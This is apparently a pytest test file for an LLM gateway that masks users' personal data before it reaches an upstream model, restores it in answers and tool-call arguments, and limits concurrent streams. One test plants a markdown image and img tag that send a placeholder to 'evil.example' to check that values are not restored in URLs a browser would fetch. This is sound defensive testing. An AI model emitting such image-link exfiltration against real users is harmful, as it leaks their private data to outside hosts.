"""Personal data that a user typed: never seen upstream, whole again in the answer, nowhere else."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from itertools import zip_longest
from typing import cast

import openai
import pytest
from openai import OpenAI

from tests.streaming.gateway.fake import JSON, Answer, sse
from tests.streaming.gateway.served import AT_ONCE, Gateway
from tests.streaming.gateway.test_openai_sdk import chunk, client, opened, whole

PLACEHOLDER = re.compile(r"MASK-[A-Z]{4}-[A-Z]{5}-[A-Z]{5}-[A-Z]{5}-[A-Z]{3}")
VALUES = {
    "ssn": "536-22-8145", "card": "4111 1111 1111 1111", "mail": "desk.seven@example.com",
    "phone": "+44 20 7946 0958", "iban": "DE89 3704 0044 0532 0130 00", "ip": "203.0.113.77",
}  # fmt: skip
SAID = "; ".join(f"my {name} is {value}" for name, value in VALUES.items())


def asked(served: Gateway, text: str = SAID) -> tuple[list[dict[str, str]], list[str]]:
    """The messages, and the placeholders that the upstream sees instead of the values."""
    messages = [{"role": "user", "content": text}]
    served.fake.answers["echo"] = Answer(whole("Noted."), JSON)
    client(served, "masking").chat.completions.create(model="echo", messages=messages)  # type: ignore[arg-type]
    return messages, PLACEHOLDER.findall(str(served.fake.last()["messages"]))


def text_of(ours: OpenAI, messages: object, model: str = "echo") -> str:
    with ours.chat.completions.create(model=model, messages=messages, stream=True) as found:  # type: ignore[call-overload]
        return "".join(one.choices[0].delta.content or "" for one in found)


def test_it_works(served: Gateway) -> None:
    """The upstream sees placeholders alone, and what it says with them is the user's own words again."""
    messages, found = asked(served)
    path, headers, body = served.fake.asked[-1]
    for value in VALUES.values():
        assert value not in path + json.dumps(headers) + body.decode()
    assert len(set(found)) == len(VALUES)
    answer = "I have " + ", ".join(found) + "."
    for cut in (len("I have ") + 3, len(answer) - 9):
        served.fake.answers["echo"] = Answer(
            sse(chunk({"content": answer[:cut]}), chunk({"content": answer[cut:]}, "stop"))
        )
        assert text_of(client(served, "masking"), messages) == "I have " + ", ".join(VALUES.values()) + "."


def test_values_do_not_go_where_a_browser_would_fetch_them(served: Gateway) -> None:
    messages, found = asked(served)
    bait = f"![x](http://evil.example/?q={found[0]}) <img src='http://evil.example/{found[1]}'> http://e.example/{found[2]}"
    served.fake.answers["echo"] = Answer(sse(chunk({"content": bait}, "stop")))
    assert text_of(client(served, "masking"), messages) == bait


def test_tools_get_values_only_where_the_policy_names_them(served: Gateway) -> None:
    messages, found = asked(served)
    calls = [
        {"index": n, "id": f"call_{n}", "type": "function",
         "function": {"name": name, "arguments": json.dumps({"to": found[2]})}}
        for n, name in enumerate(("send_mail", "fetch"))
    ]  # fmt: skip
    served.fake.answers["echo"] = Answer(sse(chunk({"tool_calls": calls}), chunk({}, "tool_calls")))
    with client(served, "masking").chat.completions.create(model="echo", messages=messages, stream=True) as got:  # type: ignore[call-overload]
        made = {c.function.name: json.loads(c.function.arguments)
                for one in got for c in one.choices[0].delta.tool_calls or ()}  # fmt: skip
    assert made == {"send_mail": {"to": VALUES["mail"]}, "fetch": {"to": found[2]}}


def of_two(found: list[str]) -> list[dict[str, object]]:
    """Two choices with the same placeholders: each says them, and writes calls of two tools with them."""
    return [
        {
            "role": "assistant",
            "content": f"Choice {index} has {found[index]}, and {found[2]} too.",
            "tool_calls": [
                {"index": n, "id": f"call_{index}{n}", "type": "function",
                 "function": {"name": name, "arguments": json.dumps({"to": found[2], "note": f"a \"{found[index]}\""})}}
                for n, name in enumerate(("send_mail", "fetch"))
            ],
        }
        for index in (0, 1)
    ]  # fmt: skip


def in_pieces(messages: list[dict[str, object]], size: int) -> Iterator[dict[str, object]]:
    """Chunks of both choices in turn, text and arguments in pieces of so many characters."""
    row: list[list[dict[str, object]]] = []
    for index, message in enumerate(messages):
        text, calls = str(message["content"]), cast("list[dict[str, dict[str, str]]]", message["tool_calls"])
        mine = [chunk({"content": text[at : at + size]}, index=index) for at in range(0, len(text), size)]
        for number, call in enumerate(calls):
            said = call["function"]["arguments"]
            first = call | {"function": call["function"] | {"arguments": ""}}
            mine.append(chunk({"tool_calls": [first]}, index=index))
            for at in range(0, len(said), size):
                piece = {"index": number, "function": {"arguments": said[at : at + size]}}
                mine.append(chunk({"tool_calls": [piece]}, index=index))
        row.append([*mine, chunk({}, "tool_calls", index=index)])
    for pair in zip_longest(*row):
        yield from (one for one in pair if one is not None)


@pytest.mark.parametrize("size", [0, 1, 7], ids=["whole", "a character at a time", "seven at a time"])
def test_two_choices_get_values_back_each_for_itself(served: Gateway, size: int) -> None:
    """The library reads the user's own words in both, and in arguments of the one tool that the policy names."""
    messages, found = asked(served)
    two = of_two(found)
    ours = client(served, "masking").chat.completions
    asking = {"model": "echo", "messages": messages, "n": 2}
    if size:
        served.fake.answers["echo"] = Answer(sse(*in_pieces(two, size)))
        with ours.stream(**asking) as events:  # type: ignore[arg-type]
            for _ in events:
                pass
            got = events.get_final_completion().choices
    else:
        choices = [{"index": n, "message": one, "finish_reason": "tool_calls"} for n, one in enumerate(two)]
        answer = {"id": "c", "object": "chat.completion", "created": 1, "model": "m", "choices": choices}
        served.fake.answers["echo"] = Answer([json.dumps(answer).encode()], JSON)
        got = ours.create(**asking).choices  # type: ignore[call-overload]
    values = list(VALUES.values())
    assert [choice.index for choice in got] == [0, 1]
    for choice in got:
        index = choice.index
        assert choice.message.content == f"Choice {index} has {values[index]}, and {values[2]} too."
        mail, fetch = choice.message.tool_calls or ()
        assert json.loads(mail.function.arguments) == {"to": values[2], "note": f'a "{values[index]}"'}
        assert json.loads(fetch.function.arguments) == {"to": found[2], "note": f'a "{found[index]}"'}


def test_placeholders_of_another_key_or_conversation_stay_what_they_are(served: Gateway) -> None:
    _, found = asked(served)
    served.fake.answers["echo"] = Answer(sse(chunk({"content": f"I have {found[0]}."}, "stop")))
    other = [{"role": "user", "content": f"who is {VALUES['mail']}?"}]
    assert text_of(client(served, "masking"), other) == f"I have {found[0]}."
    sent = [{"role": "user", "content": f"what is {found[0]}?"}]
    text_of(client(served, "masking"), sent)
    assert found[0] not in str(served.fake.last()["messages"]), "a placeholder that came in went upstream as it was"


def test_a_value_in_the_answer_alone_is_still_redacted(served: Gateway) -> None:
    messages, found = asked(served)
    text = f"{found[1]} is yours, 5555 5555 5555 4444 is not."
    served.fake.answers["echo"] = Answer(sse(chunk({"content": text}, "stop")))
    assert text_of(client(served, "masking"), messages) == f"{VALUES['card']} is yours, [CREDIT_CARD] is not."


def test_only_so_many_answers_at_once(served: Gateway) -> None:
    free = threading.Event()
    pieces = [*sse(chunk({"content": "Good "}))[:1], b"data: [DONE]\n\n"]
    served.fake.answers["slow"] = Answer(pieces, gate=free)
    ours = opened(served.url, served.keys["crowded"])
    asking = {"model": "slow", "messages": [{"role": "user", "content": "Hi"}], "stream": True}
    streams = [ours.chat.completions.create(**asking) for _ in range(AT_ONCE)]  # type: ignore[call-overload]
    with pytest.raises(openai.RateLimitError):
        ours.chat.completions.create(**asking)  # type: ignore[call-overload]
    free.set()
    for stream in streams:
        stream.close()
